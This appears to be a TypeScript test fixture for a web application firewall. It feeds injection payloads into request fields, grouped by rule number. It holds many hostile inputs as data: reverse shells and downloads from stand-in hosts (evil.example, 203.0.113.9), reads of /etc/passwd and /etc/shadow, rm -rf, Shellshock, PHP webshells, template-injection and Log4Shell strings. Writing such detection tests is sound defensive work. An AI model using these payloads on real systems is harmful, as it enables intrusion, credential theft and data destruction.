import { each, inAgent, inCookie, inField, inFileName, inForm, inHeader, inJson, inList, inName, inPatch, inQuery, inReferer, type Sent } from "../request";

const log4shell = "${jndi:ldap://evil.example/a}";

/** Programs where data belongs: shells (932), PHP (933), Node (934), Java (944). */
export const code: Sent[] = [
  ...each("932", inQuery, [
    "; cat /etc/passwd", "$(whoami)", "&& wget http://evil.example/x -O /tmp/x", "; nc -e /bin/sh 203.0.113.9 4444",
    "|| ping -c 10 127.0.0.1", "; curl http://evil.example/x|sh", "$(cat<<<a)", "| powershell -enc SQBFAFgA", "& dir C:\\",
    "; python3 -c 'import os;os.system(\"id\")'", ";ls -la", "a;/bin/bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "() { :; }; /bin/bash -c id",
    "$IFS;cat$IFS/etc/passwd", "/bin/cat /etc/passwd", "<(cat /etc/passwd)", "powershell.exe -nop -w hidden -c whoami",
  ]),
  ...each("932", inJson, ["; cat /etc/passwd", "$(curl evil.example)", "`wget evil.example`", "| nc 203.0.113.9 1", "&& rm -rf /tmp/x", "; sleep 10", "|/usr/bin/id"]),
  ...each("932", inList, ["; /bin/sh -c id", "$(id)"]),
  ...each("932", inForm, ["; uname -a", "|bash -i"]),
  ...each("932", inField, ["; cat /etc/shadow"]),
  ...each("932", inAgent, ["() { :;}; /bin/bash -c 'id'", "() { ignored; }; echo Content-Type: text/html; echo; /usr/bin/id"]),
  ...each("932", inHeader("X-Device-Name"), ["; cat /etc/passwd", "a && wget http://evil.example/x", "$(curl evil.example)", "|nc 203.0.113.9 4444"]),
  ...each("932", inCookie, ["$(id)"]),
  ...each("932", inName, ["$(whoami)"]),
  ...each("932", inFileName, [".htaccess"]),

  ...each("933", inQuery, [
    "<?php system($_GET['c']); ?>", "<?= `id` ?>", "php://filter/convert.base64-encode/resource=index", "phar:///tmp/a.phar", "data://text/plain;base64,PD9waHA=",
    "$_SERVER['HTTP_HOST']", "base64_decode(\"aWQ=\")", "eval($_POST[1])", "auto_prepend_file=php://input", "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
    "allow_url_include = 1", "call_user_func('system','id')", "chr(112).chr(104)", "shell_exec('id')",
  ]),
  ...each("933", inJson, ["<?php phpinfo();", "proc_open('id')", "expect://id"]),
  ...each("933", inFileName, ["shell.php", "a.php5", "image.phtml", "x.php.png.php"]),
  ...each("933", inForm, ["<?php echo 1;?>"]),

  ...each("934", inJson, [
    "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()", "require('child_process').execSync('id')", "process.env.constructor(1)",
    "this.constructor.constructor('return process')()", "new Function('return process.mainModule')",
  ]),
  ...each("934", inQuery, ["_$$ND_FUNC$$_function (){}()", "process.mainModule.require('child_process')", "child_process.spawn('id')"]),

  ...each("934", inQuery, ["{{''.__class__.__mro__[1].__subclasses__()}}", "__import__('os').popen('id')"]),
  ...each("934", inPatch, ["{{request.application.__globals__.__builtins__}}", "!!python/object/apply:os.system ['id']", "os.system('id')"]),

  ...each("934", inJson, ["{{config.items()}}", "{{ request|attr('application') }}", "{{ config['SECRET_KEY'] }}", "{{cycler.__init__}}", "{{ self._TemplateReference__context }}"]),
  // Templates, and what is neither.
  ...each("934", inJson, ["{{7*7}}", "{{7*'7'}}", "#{16*8787}", "{% debug %}", "{% include 'admin/base.html' %}", "{{ messages.storages.0.signer.key }}", "{{ request }}", "{{ [].class.base.subclasses() }}", "<%= 7 * 7 %>"]),
  ...each("934", inQuery, ["(&(uid=admin)(!(&(1=0)(userPassword=q))))", "*(|(objectclass=*))", "true, $where: '99 == 88'", "', $or: [ {}, { 'a':'a", "db.injection.insert({success:1});", "\r\nQUIT\r\n", "\nRCPT TO: test@evil.example\n"]),
  ...each("932", inJson, [";%77get%20http://evil.example/a", "; ping 127.0.0.1", "; sleep 5", "; php -r 'x'", "; python x.py", "|getent+hosts+a.oastify.com", "$(id)", "<(id)", "; kill -9 1", "if not defined A goto b", "if exist c:\\x del y", "system('id')", "eval(\"x\")"]),
  ...each("921", inJson, ["x\r\nSet-Cookie: a=b", "x\nLocation: //evil.example", "GET /admin HTTP/1.1\r\n"]),
  ...each("944", inQuery, [log4shell, "java.lang.Runtime.getRuntime().exec('id')", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=1", "org.apache.struts2.ServletActionContext", "java.lang.ProcessBuilder.evil.clonetransformer"]),
  ...each("944", inAgent, [log4shell, "${${lower:j}ndi:rmi://evil.example/x}"]),
  ...each("944", inHeader("X-Api-Version"), [log4shell]),
  ...each("944", inReferer, [log4shell]),
  ...each("944", inJson, [log4shell, "java.lang.Runtime", "com.opensymphony.xwork2.Runtime"]),
  ...each("944", inPatch, ["java.lang.ProcessBuilder"]),
  ...each("944", inForm, [log4shell]),
  // What is not let through with lists and remarks.
  ...each("932", inJson, [
    "; ssh root@203.0.113.9", "; curl 203.0.113.9", "| wget evil.example", "; cat 5 /etc/x", "; id -u", "; sh 1.sh", "; cat отчёт /srv/x", "; fetch http://evil.example/x", "| dash", "; nc 203.0.113.9 4444", "; kill 1",
    "; net user evil Password1 /ADD", "net localgroup administrators", "ping -n 5 x", "id | sh", "echo | x", "if 1==1 dir", "; python x.py", "; net -x", "; . /srv/x", "ifconfig;. rm -rf /; x", "`. x.sh`", "$(curl evil.example)",
  ]),
  ...each("933", inJson, ["system(1)", "phpinfo()", "include('скидка')", "exec($x)", "http://evil.example/shell.txt?", "http://evil.example?"]),
];
